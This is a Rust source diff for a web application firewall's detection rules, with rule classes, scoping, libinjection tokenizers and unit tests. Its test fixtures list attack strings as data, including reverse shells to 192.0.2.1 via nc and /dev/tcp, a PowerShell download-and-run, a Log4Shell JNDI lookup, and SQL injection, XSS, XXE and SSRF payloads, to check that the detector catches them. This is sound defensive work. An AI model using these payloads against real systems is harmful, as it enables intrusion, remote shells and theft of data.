@@ -1,0 +1,313 @@
+//! The detection rules: each has an id, a class, a paranoia level and a description, and is a
+//! regular expression over the normalised text (the `regex` crate matches in linear time, so
+//! no input can make matching blow up). All rules compile into one `RegexSet`. One file per
+//! family: [`sqli`], [`xss`], [`files`] (traversal, local and remote file inclusion, XXE),
+//! [`code`] (OS commands, PHP, Java), [`web`] (CRLF, NoSQL, SSRF).
+
+mod code;
+mod files;
+use files::INCLUDE_PARAMS;
+
+/// Whether include or template loaders take a parameter of this name (`file`, `page`, ...).
+pub fn is_include_param(name: &str) -> bool {
+    INCLUDE_PARAMS.split('|').any(|p| p.eq_ignore_ascii_case(name))
+}
+mod sqli;
+mod web;
+mod xss;
+
+use std::borrow::Cow;
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, serde::Serialize)]
+#[serde(rename_all = "snake_case")]
+pub enum Class {
+    Sqli,
+    Xss,
+    Traversal,
+    Cmdi,
+    Crlf,
+    /// PHP code injection: tags, dangerous functions, stream wrappers, serialized objects.
+    Php,
+    /// Java: JNDI lookups (Log4Shell), serialized objects, OGNL and EL expressions.
+    Java,
+    /// Remote file inclusion: a foreign URL where a file is included.
+    Rfi,
+    /// NoSQL operator injection (MongoDB `$ne`, `$where`, ...).
+    Nosqli,
+    /// Server-side request forgery: metadata, loopback and internal addresses, odd schemes.
+    Ssrf,
+    /// Input that does not decode (overlong UTF-8 and the like).
+    Malformed,
+}
+
+impl Class {
+    pub fn as_str(self) -> &'static str {
+        match self {
+            Class::Sqli => "sqli",
+            Class::Xss => "xss",
+            Class::Traversal => "traversal",
+            Class::Cmdi => "cmdi",
+            Class::Crlf => "crlf",
+            Class::Php => "php",
+            Class::Java => "java",
+            Class::Rfi => "rfi",
+            Class::Nosqli => "nosqli",
+            Class::Ssrf => "ssrf",
+            Class::Malformed => "malformed",
+        }
+    }
+}
+
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Rule {
+    pub id: u32,
+    pub class: Class,
+    pub paranoia: u8,
+    pub description: Cow<'static, str>,
+    /// Matched against the normalised, lower-cased text.
+    pub pattern: Cow<'static, str>,
+    /// Where the rule applies.
+    pub scope: Scope,
+}
+
+/// The places a rule applies to: some patterns are suspect in a parameter and ordinary in a
+/// header (a URL with an IP literal in `file=` against one in a Referer).
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Scope {
+    Everywhere,
+    /// Everywhere but the URL a `Referer` or `Origin` header names (its query parameters are
+    /// still checked): a browser on a developer's machine sends `http://localhost:3000/`.
+    NotReferer,
+    /// Only parameter and body values, never headers, cookies or the path.
+    ValuesOnly,
+}
+
+impl Scope {
+    pub fn applies_to(self, location: &str) -> bool {
+        match self {
+            Scope::Everywhere => true,
+            Scope::NotReferer => location != "referer",
+            Scope::ValuesOnly => matches!(
+                location,
+                "query" | "query_name" | "json" | "form" | "xml" | "multipart" | "body"
+            ),
+        }
+    }
+}
+
+/// Builds a built-in rule (every place).
+pub(super) fn rule(
+    id: u32,
+    class: Class,
+    paranoia: u8,
+    description: &'static str,
+    pattern: impl Into<Cow<'static, str>>,
+) -> Rule {
+    Rule {
+        id,
+        class,
+        paranoia,
+        description: Cow::Borrowed(description),
+        pattern: pattern.into(),
+        scope: Scope::Everywhere,
+    }
+}
+
+impl Rule {
+    pub(super) fn scope(mut self, scope: Scope) -> Rule {
+        self.scope = scope;
+        self
+    }
+}
+
+impl Class {
+    /// The classes a policy's own rule may use.
+    pub fn parse(s: &str) -> Option<Class> {
+        Some(match s {
+            "sqli" => Class::Sqli,
+            "xss" => Class::Xss,
+            "traversal" => Class::Traversal,
+            "cmdi" => Class::Cmdi,
+            "crlf" => Class::Crlf,
+            "php" => Class::Php,
+            "java" => Class::Java,
+            "rfi" => Class::Rfi,
+            "nosqli" => Class::Nosqli,
+            "ssrf" => Class::Ssrf,
+            _ => return None,
+        })
+    }
+}
+
+/// A detector that tokenizes instead of matching a pattern: libinjection's SQLi and XSS
+/// analysers (the pure-Rust `libinjectionrs` port). They see the same normalised value as the
+/// pattern rules and run only when no pattern rule fired.
+pub struct TokenizerRule {
+    pub id: u32,
+    pub class: Class,
+    pub paranoia: u8,
+    pub description: &'static str,
+    pub detect: fn(&str) -> bool,
+}
+
+/// The tokenizer rules, at the paranoia level the corpus judged them fit for (README, "Request
+/// inspection": both add false positives on benign prose and code that the pattern rules do
+/// not, so they are paranoia 2).
+pub fn tokenizers() -> Vec<TokenizerRule> {
+    vec![
+        TokenizerRule {
+            id: 942001,
+            class: Class::Sqli,
+            paranoia: 2,
+            description: "libinjection SQLi tokenizer (fingerprint of the token stream)",
+            detect: |s| libinjectionrs::detect_sqli(s.as_bytes()).is_injection(),
+        },
+        TokenizerRule {
+            id: 941001,
+            class: Class::Xss,
+            paranoia: 2,
+            description: "libinjection XSS tokenizer (HTML5 tokenizer over five contexts)",
+            detect: |s| libinjectionrs::detect_xss(s.as_bytes()).is_injection(),
+        },
+    ]
+}
+
+/// Every built-in rule id: the pattern rules and the tokenizers.
+pub fn builtin_ids() -> Vec<u32> {
+    builtin()
+        .iter()
+        .map(|r| r.id)
+        .chain(tokenizers().iter().map(|t| t.id))
+        .collect()
+}
+
+/// The compiled size a policy's own pattern may take (the built-in ones are far below it).
+pub const PATTERN_SIZE_LIMIT: usize = 1 << 20;
+
+/// Checks that a policy's own pattern compiles within the size limit.
+pub fn check_pattern(pattern: &str) -> Result<(), String> {
+    regex::RegexBuilder::new(pattern)
+        .size_limit(PATTERN_SIZE_LIMIT)
+        .build()
+        .map(|_| ())
+        .map_err(|e| {
+            e.to_string()
+                .lines()
+                .last()
+                .unwrap_or("invalid pattern")
+                .trim()
+                .to_string()
+        })
+}
+
+/// The built-in rules. Paranoia 1 is on by default; 2 adds rules with more false positives.
+pub fn builtin() -> Vec<Rule> {
+    [sqli::rules(), xss::rules(), files::rules(), code::rules(), web::rules()].concat()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// Each class's rules on values an attacker sends and values an API carries (the corpus in
+    /// tests/corpus/ measures the rates; this pins one reason per rule family).
+    #[test]
+    fn each_family_fires_on_its_attacks_and_not_on_lookalikes() {
+        let insp = crate::inspect::Inspector::new(1, &[]);
+        let attacks: &[(&str, Class)] = &[
+            ("127.0.0.1 && whoami", Class::Cmdi),
+            ("x|id", Class::Cmdi),
+            ("{cat,/etc/hostname}", Class::Cmdi),
+            ("/???/c?t /???/h?st?", Class::Cmdi),
+            (";$u cat$u /etc$u/hosts", Class::Cmdi),
+            ("powershell -nop -c \"iex(iwr http://x)\"", Class::Cmdi),
+            ("%COMSPEC% /c ver", Class::Cmdi),
+            ("$env:APPDATA", Class::Cmdi),
+            ("a; nc -e /bin/sh 192.0.2.1 4444", Class::Cmdi),
+            ("x && bash -i >& /dev/tcp/192.0.2.1/9 0>&1", Class::Cmdi),
+            ("C:\\boot.ini", Class::Traversal),
+            ("WEB-INF/web.xml", Class::Traversal),
+            ("0x2e0x2e/0x2e0x2e/etc/hosts", Class::Traversal),
+            ("<!DOCTYPE a [<!ENTITY e SYSTEM \"http://x/\">]>", Class::Traversal),
+            ("<details open ontoggleextra=print()>", Class::Xss),
+            ("\" autofocus onfocusin=\"print()", Class::Xss),
+            ("<a href=\"jav&#x0A;ascript:print()\">", Class::Xss),
+            ("\"><b>", Class::Xss),
+            ("'||(select user from dual)||'", Class::Sqli),
+            ("x' and 1=convert(int,@@servername)--", Class::Sqli),
+            ("<?= `id` ?>", Class::Php),
+            ("php://filter/read=string.rot13/resource=config", Class::Php),
+            ("a:1:{i:0;O:4:\"Evil\":0:{}}", Class::Php),
+            ("${${env:NaN:-j}ndi${env:NaN:-:}ldap://x/a}", Class::Java),
+            ("${T(java.lang.Runtime).getRuntime()}", Class::Java),
+            (
+                "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
+                Class::Java,
+            ),
+            ("http://198.51.100.7/x.txt??", Class::Rfi),
+            ("\\\\198.51.100.7\\s\\x", Class::Rfi),
+            ("{\"$gt\": \"\"}", Class::Nosqli),
+            ("u[$regex]", Class::Nosqli),
+            ("http://0xa9fea9fe/latest", Class::Ssrf),
+            ("http://[::ffff:7f00:1]:6379/", Class::Ssrf),
+            ("gopher://x:70/_", Class::Ssrf),
+        ];
+        for (value, class) in attacks {
+            // Only the family under test: another family's hit must not stand in for it.
+            let others: Vec<u32> = builtin().iter().filter(|r| r.class != *class).map(|r| r.id).collect();
+            let alone = crate::inspect::Inspector::new(1, &others);
+            let f = alone
+                .check(value, false, "query")
+                .unwrap_or_else(|| panic!("{class:?} missed {value:?}"));
+            assert_eq!(f.class, *class);
+        }
+        let benign = [
+            "Find & Replace",
+            "| id | name | type |",
+            "I use PowerShell at work",
+            "const fs = require('fs')",
+            "the operating system (OS) and its shell",
+            "https://forum.example.org/viewtopic.php?t=12",
+            "we moved log4j to 2.17.1 and java 21",
+            "price ${amount} or $5.99",
+            "data:image/png;base64,iVBORw0KGgo=",
+            "it's 'online' now",
+            "Mr. O'Connor & Sons, c/o Zoë, Apt. #4",
+            "see http://localhost:8080/health",
+            "$type",
+        ];
+        for value in benign {
+            assert!(
+                insp.check(value, false, "query").is_none(),
+                "{value:?}: {:?}",
+                insp.check(value, false, "query")
+            );
+        }
+        // An IP-literal URL is suspect in a parameter, ordinary in a Referer.
+        assert!(insp.check("http://192.0.2.9/app", false, "query").is_some());
+        assert!(insp.check("http://192.0.2.9/app", false, "header").is_none());
+        // A remote URL where a file is included, by parameter name.
+        assert_eq!(
+            insp.check_pair("page", "https://x.example/inc", true, "query_name", "query")
+                .unwrap()
+                .class,
+            Class::Rfi
+        );
+        assert!(insp
+            .check_pair("avatar", "https://x.example/a.png", true, "query_name", "query")
+            .is_none());
+    }
+
+    #[test]
+    fn ids_are_unique_and_every_pattern_compiles_alone() {
+        let rules = builtin();
+        let mut ids: Vec<u32> = builtin_ids();
+        ids.sort_unstable();
+        let n = ids.len();
+        ids.dedup();
+        assert_eq!(ids.len(), n, "duplicate rule id");
+        for r in &rules {
+            check_pattern(&r.pattern).unwrap_or_else(|e| panic!("rule {}: {e}", r.id));
+        }
+    }
+}
